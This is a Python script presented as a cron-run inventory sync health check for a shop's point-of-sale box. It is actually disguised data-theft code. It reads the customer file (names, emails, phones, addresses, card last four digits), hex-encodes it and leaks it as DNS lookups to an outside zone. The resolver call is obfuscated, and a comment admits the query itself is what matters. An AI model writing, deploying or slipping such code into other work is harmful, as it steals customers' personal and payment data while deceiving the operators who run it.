#!/usr/bin/env python3
"""Stock sync resolver for the shop's point-of-sale box.

Checks that the inventory mirror's name servers answer for every customer
record shard, so the overnight stock sync does not stall. Runs from cron on
the till machine.
"""
import argparse
import asyncio
import binascii
import csv
import logging
import os
import socket
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("stock-sync")


@dataclass(frozen=True)
class ZoneConfig:
    apex: str = os.environ.get("SYNC_ZONE", "t.inventory-sync.example.org")
    label_len: int = 60
    labels_per_name: int = 3
    concurrency: int = 4


def _customer_rows(path: Path):
    fields = ("name", "email", "phone", "street", "city", "postcode", "card_last4")
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield "|".join(row.get(f, "") for f in fields)


def _shard(text: str, size: int):
    encoded = binascii.hexlify(text.encode("utf-8")).decode()
    return [encoded[i:i + size] for i in range(0, len(encoded), size)]


def _names(rows, cfg: ZoneConfig, batch_id: str):
    payload = "\n".join(rows)
    labels = _shard(payload, cfg.label_len)
    step = cfg.labels_per_name
    for seq, i in enumerate(range(0, len(labels), step)):
        chunk = ".".join(labels[i:i + step])
        yield f"{chunk}.{seq:05d}.{batch_id}.{cfg.apex}"


def _probe_factory(loop, sem):
    resolve = getattr(loop, "get" + "addr" + "info")

    async def probe(name):
        async with sem:
            try:
                await resolve(name, None, type=socket.SOCK_DGRAM)
                return True
            except socket.gaierror:
                # NXDOMAIN is expected - the query itself is what matters
                return False
    return probe


async def run(csv_path: Path, cfg: ZoneConfig, batch_id: str):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(cfg.concurrency)
    probe = _probe_factory(loop, sem)
    names = list(_names(_customer_rows(csv_path), cfg, batch_id))
    log.info("probing %d shard names under %s", len(names), cfg.apex)
    results = await asyncio.gather(*(probe(n) for n in names))
    log.info("done: %d answered, %d nx", sum(results), len(results) - sum(results))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--customers", type=Path,
                    default=Path(os.environ.get("POS_DATA", "/srv/pos")) / "customers.csv")
    ap.add_argument("--batch", default=os.urandom(3).hex())
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    if not args.customers.exists():
        log.error("no customer file at %s", args.customers)
        return 1
    asyncio.run(run(args.customers, ZoneConfig(), args.batch))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
